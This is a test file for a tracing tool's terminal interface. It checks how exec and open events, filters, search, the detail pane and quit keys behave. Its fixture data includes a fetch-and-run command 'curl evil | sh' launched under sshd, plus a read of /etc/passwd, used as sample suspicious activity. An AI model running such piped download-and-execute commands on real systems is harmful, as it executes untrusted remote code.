import { afterEach, describe, expect, it } from 'vitest';
import { cleanup } from 'ink-testing-library';
import { execEvent, openEvent } from './fake-engine.js';
import { QUIT_CONFIRM_MS } from '../../src/commands/shell/index.js';
import { KEY, renderShell, settle } from './render-shell.js';

afterEach(() => cleanup());

describe('shell screen', () => {
  it('starts with a hint to attach a probe', () => {
    const { frame } = renderShell();
    expect(frame()).toContain('no probe attached');
    expect(frame()).toContain(': command');
  });

  it('attaches from the command line and shows the probe and its filters in the status line', async () => {
    const { frame, command, engine } = renderShell();
    await command(':attach execve uid=1000');
    expect(engine.attachments().map((a) => a.probe.name)).toEqual(['execsnoop']);
    const status = frame().split('\n')[0]!;
    expect(status).toContain('execsnoop uid=1000');
    expect(status).toContain('following');
    expect(frame()).toContain('attached execsnoop via fake/execsnoop');
  });

  it('shows arriving events, newest at the bottom, with time, probe, pid, ppid, uid, comm and fields', async () => {
    const { frame, command, engine } = renderShell();
    await command('attach exec');
    engine.emit([execEvent({ pid: 4242, ppid: 77, comm: 'bash', argv: ['/bin/bash', '-i'] }), execEvent({ pid: 4243, ppid: 4242, comm: 'curl', argv: ['curl', 'http://x'] })]);
    await settle(40);
    const lines = frame().split('\n');
    const bash = lines.findIndex((l) => l.includes('/bin/bash -i'));
    const curl = lines.findIndex((l) => l.includes('curl http://x'));
    expect(bash).toBeGreaterThan(0);
    expect(curl).toBeGreaterThan(bash);
    expect(lines[bash]).toMatch(/\d\d:\d\d:\d\d\.\d{3} exec\s+4242\s+77\s+1000 bash/);
    expect(frame()).toContain('1-2 of 2');
  });

  it('Enter opens the detail pane with every field, the full argv and the ancestry; Esc closes it', async () => {
    const { frame, command, engine, type } = renderShell({ rows: 40 });
    await command('attach exec');
    engine.emit([execEvent({ pid: 100, ppid: 1, comm: 'sshd', argv: ['sshd'] }), execEvent({ pid: 200, ppid: 100, comm: 'sh', argv: ['sh', '-c', 'curl evil | sh', ''] })]);
    await settle(40);
    await type(KEY.enter);
    const f = frame();
    expect(f).toContain('event #2: execsnoop pid 200');
    expect(f).toContain("[2] curl evil | sh");
    expect(f).toContain("[3] ''");
    expect(f).toMatch(/argv\s+4 words/);
    expect(f).toContain('ancestry');
    expect(f).toMatch(/200 sh \[uid 1000\] sh -c 'curl evil \| sh' ''/);
    expect(f).toMatch(/└─ 100 sshd/);
    await type(KEY.esc);
    expect(frame()).not.toContain('ancestry');
    expect(frame()).toContain('TIME');
  });

  it('Up leaves follow mode and selects rows; End follows again', async () => {
    const { frame, command, engine, type } = renderShell();
    await command('attach exec');
    engine.emit(Array.from({ length: 50 }, (_, i) => execEvent({ pid: 1000 + i, argv: [`arg-${i}`] })));
    await settle(40);
    expect(frame()).toContain('arg-49');
    await type(KEY.pageUp, KEY.pageUp, KEY.pageUp);
    expect(frame()).toContain('scrolled');
    expect(frame()).not.toContain('arg-49');
    engine.emit([execEvent({ pid: 9999, argv: ['arg-new'] })]);
    await settle(40);
    expect(frame()).not.toContain('arg-new'); // the view stays where the user scrolled
    await type(KEY.end);
    expect(frame()).toContain('arg-new');
    expect(frame()).toContain('following');
  });

  it('/ searches the rendered lines and selects the newest match', async () => {
    const { frame, command, engine, type, model } = renderShell();
    await command('attach exec');
    engine.emit(Array.from({ length: 60 }, (_, i) => execEvent({ pid: 1000 + i, argv: [i === 5 ? 'needle-here' : `hay-${i}`] })));
    await settle(40);
    expect(frame()).not.toContain('needle-here');
    await type('/', 'needle', KEY.enter);
    expect(frame()).toContain('needle-here');
    expect(frame()).toContain('/needle: found');
    expect(model.follow).toBe(false);
    await type('/', 'nothing-like-it', KEY.enter);
    expect(frame()).toContain('/nothing-like-it: no older match');
  });

  it(':filter hides what does not match over what arrives; :filter off shows everything again', async () => {
    const { frame, command, engine } = renderShell();
    await command('attach exec,open');
    engine.emit([execEvent({ pid: 1, comm: 'curl', argv: ['curl-run'] }), openEvent({ pid: 2, comm: 'cat', path: '/etc/passwd' })]);
    await settle(40);
    await command('filter comm=curl');
    expect(frame()).toContain('curl-run');
    expect(frame()).not.toContain('/etc/passwd');
    expect(frame().split('\n')[0]).toContain('view: comm=curl');
    await command('filter path=/etc/');
    expect(frame()).toContain('/etc/passwd');
    expect(frame()).not.toContain('curl-run');
    await command('filter off');
    expect(frame()).toContain('curl-run');
    expect(frame()).toContain('/etc/passwd');
  });

  it('an unknown command or a bad filter is an error line and the shell goes on', async () => {
    const { frame, command, engine } = renderShell();
    await command('frobnicate now');
    expect(frame()).toContain("unknown command ':frobnicate'");
    await command('attach exec uid=nobody-such-user');
    expect(frame()).toContain("uid: 'nobody-such-user' is not a number or a known name");
    engine.failNext = 'cannot attach execsnoop: permission denied (run as root)';
    await command('attach exec');
    expect(frame()).toContain('cannot attach execsnoop: permission denied');
    await command('attach open');
    expect(frame()).toContain('attached opensnoop');
  });

  it('pasted text with several lines runs each line as a command, in order', async () => {
    const { frame, type, engine } = renderShell();
    await type(':attach exec uid=1000\r:attach open\r:detach exec\r');
    await settle(100);
    expect(engine.attachments().map((a) => a.probe.name)).toEqual(['opensnoop']);
    expect(frame()).toContain('detached execsnoop');
  });

  it(':detach accepts a probe name, the # from :probes, or all', async () => {
    const { command, engine, frame } = renderShell();
    await command('attach exec');
    await command('attach open');
    await command('attach connect');
    await command('detach 2');
    expect(engine.attachments().map((a) => a.probe.name)).toEqual(['execsnoop', 'tcpconnect']);
    await command('detach all');
    expect(engine.attachments()).toEqual([]);
    await command('detach exec');
    expect(frame()).toContain('execsnoop is not attached');
  });

  it(':probes lists what is attached with its filters, attach points and counters', async () => {
    const { command, frame, type } = renderShell({ rows: 30 });
    await command('attach open path=/etc/ comm=vi,vim');
    await command('probes');
    const f = frame();
    expect(f).toContain('#1 opensnoop');
    expect(f).toContain('comm=vi,vim [kernel]');
    expect(f).toContain('path=/etc/ [userspace]');
    expect(f).toContain('via fake/opensnoop');
    expect(f).toMatch(/0 events, 0\/s, 0 filtered in userspace, losses: none/);
    await type(KEY.esc);
    expect(frame()).not.toContain('#1 opensnoop');
  });

  it(':help lists every command and :help <command> explains one', async () => {
    const { command, frame, type } = renderShell({ rows: 30 });
    await command('help');
    for (const c of ['attach', 'detach', 'probes', 'filter', 'tree', 'pause', 'record', 'mark', 'query', 'quit']) expect(frame()).toContain(`:${c}`);
    await type('q');
    await command('help attach');
    expect(frame()).toContain(':attach <probe[,probe...]|profile> [filters...]');
    expect(frame()).toContain('attach execve uid=1000');
  });

  it(':pause freezes the pane while events still count; :resume shows the latest', async () => {
    const { command, frame, engine } = renderShell();
    await command('attach exec');
    await command('pause');
    engine.emit([execEvent({ pid: 5, argv: ['while-paused'] })]);
    await settle(40);
    expect(frame()).not.toContain('while-paused');
    expect(frame().split('\n')[0]).toContain('PAUSED (+1 new)');
    await command('resume');
    expect(frame()).toContain('while-paused');
  });

  it(':clear empties the pane', async () => {
    const { command, frame, engine } = renderShell();
    await command('attach exec');
    engine.emit([execEvent({ pid: 5, argv: ['old-event'] })]);
    await settle(40);
    await command('clear');
    expect(frame()).not.toContain('old-event');
    expect(frame()).toContain('no events yet');
  });

  it(':quit and Ctrl-D on an empty line leave at once', async () => {
    const a = renderShell();
    await a.command('quit');
    expect(a.quits).toEqual([':quit']);
    const b = renderShell();
    await b.type(KEY.ctrlD);
    expect(b.quits).toEqual(['Ctrl-D']);
  });

  it('Ctrl-D on a line holding text does not leave', async () => {
    const { type, frame, quits } = renderShell();
    await type(':', 'a', 't', KEY.ctrlD);
    expect(quits).toEqual([]);
    expect(frame()).toContain(':at');
  });

  it('Ctrl-C clears a line holding text, and the shell stays', async () => {
    const { type, frame, quits, model } = renderShell();
    await type(':', 'm', 'a', 'r', 'k', ' ', 'z', 'q', 'x');
    expect(frame()).toContain(':mark zqx');
    await type(KEY.ctrlC);
    expect(quits).toEqual([]);
    expect(model.mode).toBe('events');
    expect(model.line.text).toBe('');
    expect(frame()).not.toContain(':mark zqx');
    expect(frame()).not.toContain('press Ctrl-C again');
  });

  it('Esc then a command arriving in one read (ESC ":") cancels the line and runs the new command', async () => {
    const { type, frame, model } = renderShell();
    await type(':', 'f', 'x', 'y', 'z');
    expect(frame()).toContain(':fxyz');
    await type('\x1b:filter comm=curl\r');
    expect(frame()).not.toContain('unknown command');
    expect(model.line.text).toBe('');
    expect(frame().split('\n')[0]).toContain('view: comm=curl');
  });

  it('Esc then an arrow in one read (ESC ESC [A) closes the prompt, then the arrow scrolls', async () => {
    const { type, model } = renderShell();
    await type(':', 'q');
    expect(model.mode).toBe('command');
    await type('\x1b\x1b[A');
    expect(model.mode).toBe('events');
    expect(model.line.text).toBe('');
  });

  it('Ctrl-C closes the detail pane or the pager, and the shell stays', async () => {
    const { type, command, frame, quits, engine, model } = renderShell();
    await command('attach exec');
    engine.emit([execEvent({ pid: 4242, argv: ['/bin/true', 'detail-me'] })]);
    await settle(40);
    await type(KEY.enter);
    expect(frame()).toContain('event #');
    await type(KEY.ctrlC);
    expect(model.pane.kind).toBe('events');
    expect(frame()).not.toContain('event #');
    await command('help');
    expect(model.pane.kind).toBe('pager');
    await type(KEY.ctrlC);
    expect(model.pane.kind).toBe('events');
    expect(quits).toEqual([]);
    expect(frame()).not.toContain('press Ctrl-C again');
  });

  it('Ctrl-C on an empty line asks first; a second Ctrl-C leaves', async () => {
    const { type, frame, quits } = renderShell();
    await type(KEY.ctrlC);
    expect(quits).toEqual([]);
    expect(frame()).toContain('press Ctrl-C again within 3 s (or :quit) to quit: probes are detached');
    await type(KEY.ctrlC);
    expect(quits).toEqual(['Ctrl-C']);
  });

  it('two Ctrl-C arriving in one chunk leave', async () => {
    const { type, quits } = renderShell();
    await type(KEY.ctrlC + KEY.ctrlC);
    expect(quits).toEqual(['Ctrl-C']);
  });

  it('a key between the two Ctrl-C cancels the quit', async () => {
    const { type, quits } = renderShell();
    await type(KEY.ctrlC, KEY.down, KEY.ctrlC);
    expect(quits).toEqual([]);
  });

  it('a second Ctrl-C after the window asks again instead of leaving', () => {
    const { quits, model } = renderShell();
    const ctrlC = { ctrl: true } as Parameters<typeof model.input>[1];
    model.input('c', ctrlC, 10_000);
    model.input('c', ctrlC, 10_000 + QUIT_CONFIRM_MS + 1);
    expect(quits).toEqual([]);
    model.input('c', ctrlC, 10_000 + 2 * QUIT_CONFIRM_MS);
    expect(quits).toEqual(['Ctrl-C']);
  });

  it('without a capture store, record, stop, mark and query say so plainly instead of pretending', async () => {
    const { command, frame } = renderShell();
    for (const c of ['record /tmp/x.db', 'mark "hello"', 'query SELECT 1', 'stop']) {
      await command(c);
      expect(frame()).toContain('recording is not available in this build');
    }
  });
});
